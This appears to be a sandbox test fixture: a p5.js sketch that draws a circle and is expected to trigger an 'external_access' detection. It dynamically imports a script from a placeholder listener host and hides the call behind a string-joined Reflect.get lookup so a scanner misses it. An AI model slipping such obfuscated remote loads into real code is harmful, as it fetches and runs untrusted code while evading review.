// tries: to ask for a module by a function that seems never to run
// expect: external_access
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}
function fromNet() {
  return import("http://@LISTENER@/x.js");
}
async function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 200);
  brush.circle(0, 0, 160);
  try {
    await Reflect.get(window, ["from", "Net"].join(""))();
  } catch {}
}
